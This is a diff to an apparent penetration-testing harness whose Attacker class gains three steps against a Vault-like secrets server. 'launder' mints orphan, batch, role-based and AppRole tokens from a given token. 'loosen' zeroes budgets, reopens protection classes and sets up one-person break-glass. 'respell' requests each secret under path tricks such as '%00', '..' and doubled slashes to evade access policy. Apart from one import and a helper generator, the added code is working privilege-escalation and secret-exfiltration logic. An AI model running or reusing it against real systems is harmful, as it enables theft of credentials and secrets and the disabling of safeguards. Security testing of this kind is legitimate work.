@@ -18,6 +18,7 @@ import re
 import sys
 from collections.abc import Iterator
 from dataclasses import asdict, dataclass
+from functools import partial
 from pathlib import Path
 from typing import Any, Final
 
@@ -179,6 +180,83 @@ class Attacker:
             agent = self.connect(*files)
             for token in self.tokens:
                 self.export(agent, token, "K11")
+                self.launder(agent, token)
+                self.loosen(agent, token)
+                self.respell(agent, token)
+
+    def launder(self, client: TlsClient, token: str) -> None:
+        """Make other tokens of one token, every way that policy allows, and take all with each."""
+        row = self.row("K12", "children, orphans, roles, aliases and machines made by that token")
+        for client_token in self.laundered(row, client, token):
+            for shown in (client, self.nowhere):
+                self.export(shown, client_token, "K12")
+
+    def laundered(self, row: Row, client: TlsClient, token: str) -> Iterator[str]:
+        """Yield tokens that stand on another one."""
+        made = partial(self.ask, row, client, "POST", token=token)
+        wanted = {"policies": self.target["policies"], "ttl": "1h"}
+        role = {"allowed_policies": self.target["policies"], "orphan": True, "renewable": False}
+        made("auth/token/roles/k12", role)
+        machine = {"token_policies": self.target["policies"], "bind_secret_id": True}
+        made("auth/approle/role/k12", {**machine, "secret_id_wrapping": "off"})
+        ways = [
+            ("auth/token/create", wanted),
+            ("auth/token/create", {**wanted, "no_parent": True}),
+            ("auth/token/create", {**wanted, "type": "batch"}),
+            ("auth/token/create", {**wanted, "num_uses": 50}),
+            ("auth/token/create-orphan", wanted),
+            ("auth/token/create/k12", wanted),
+            ("auth/token/create/k12", {**wanted, "entity_alias": "k12"}),
+        ]
+        for path, data in ways:
+            answer = made(path, data)
+            if answer and answer["auth"]:
+                yield answer["auth"]["client_token"]
+        yield from self.machine(row, client, token)
+
+    def machine(self, row: Row, client: TlsClient, token: str) -> Iterator[str]:
+        """Yield the token of a machine whose role and secret id another token made."""
+        where = "auth/approle/role/k12"
+        found = self.ask(row, client, "GET", f"{where}/role-id", token=token)
+        secret = self.ask(row, client, "POST", f"{where}/secret-id", {}, token)
+        if not (found and secret):
+            return
+        if secret.get("wrap_info"):
+            opened = {"token": secret["wrap_info"]["token"]}
+            secret = self.ask(row, client, "POST", "sys/wrapping/unwrap", opened)
+        if secret and secret.get("data"):
+            given = {
+                "role_id": found["data"]["role_id"],
+                "secret_id": secret["data"]["secret_id"],
+            }
+            answer = self.ask(row, client, "POST", "auth/approle/login", given)
+            if answer:
+                yield answer["auth"]["client_token"]
+
+    def loosen(self, client: TlsClient, token: str) -> None:
+        """Lower what bounds that token, every way that policy allows; then take all again."""
+        row = self.row("K13", "lower budgets, classes and break-glass, then export again")
+        limits = {"hour": 0, "day": 0, "month": 0}
+        for kind in ("entity", "device", "team", "house"):
+            self.ask(row, client, "POST", f"sys/budgets/defaults/{kind}", limits, token)
+        self.ask(row, client, "POST", "sys/budgets/defaults", {"soft": 100}, token)
+        for mount in self.target["secrets"]:
+            for guard in self.target["classes"]:
+                at = f"sys/classes/{mount}{guard}"
+                self.ask(row, client, "DELETE", at, token=token)
+                self.ask(row, client, "POST", at, {"class": "open"}, token)
+                self.ask(row, client, "POST", f"{at}/0", {"class": "open"}, token)
+        people = {"people": "k12a,k12b", "policies": self.target["policies"], "need": 1}
+        self.ask(row, client, "POST", "sys/break-glass/config", people, token)
+        self.export(client, token, "K13")
+
+    def respell(self, client: TlsClient, token: str) -> None:
+        """Ask for every secret by each spelling that a parser might take for another object."""
+        row = self.row("K14", "every secret by other spellings of its path")
+        for mount in self.target["secrets"]:
+            for name in self.names(row, client, token, f"{mount}metadata/"):
+                for path in spellings(mount, name):
+                    self.ask(row, client, "GET", path, token=token)
 
     def export(self, client: TlsClient, token: str, step: str) -> None:
         """Read everything that can be listed, wrapped and not; then every other route, once."""
@@ -222,6 +300,19 @@ class Attacker:
                 if not (tokens_only and (route.open or route.login)):
                     pattern = re.sub(r"\{\w+(\.\.\.)?\}", self.target["name"], route.pattern)
                     yield METHODS[route.op], at + pattern
+
+
+def spellings(mount: str, name: str) -> Iterator[str]:
+    """Yield paths that may mean the secret of that name."""
+    at, folders, last = mount.rstrip("/"), *name.rpartition("/")[::2]
+    yield from (
+        f"{at}/data/{name}/", f"{at}/data//{name}", f"{at}//data/{name}", f"/{at}/data/{name}",
+        f"{at}/data/{name}%20", f"{at}/data/%20{name}", f"{at}/data/{name.upper()}",
+        f"{at}/data/{folders}%2F{last}", f"{at}/data/./{name}", f"{at}/data/x/../{name}",
+        f"{at}/DATA/{name}", f"{at}/data/{name}?version=1", f"{at}/subkeys/{name}?depth=9",
+        f"{at}/metadata/{name}", f"{at}/{name}", f"{at}/data/{name}%00",
+        f"{at}/data/{name}%EF%B8%8F",
+    )  # fmt: skip
 
 
 def keys_in(text: str) -> Iterator[EllipticCurvePrivateKey]:
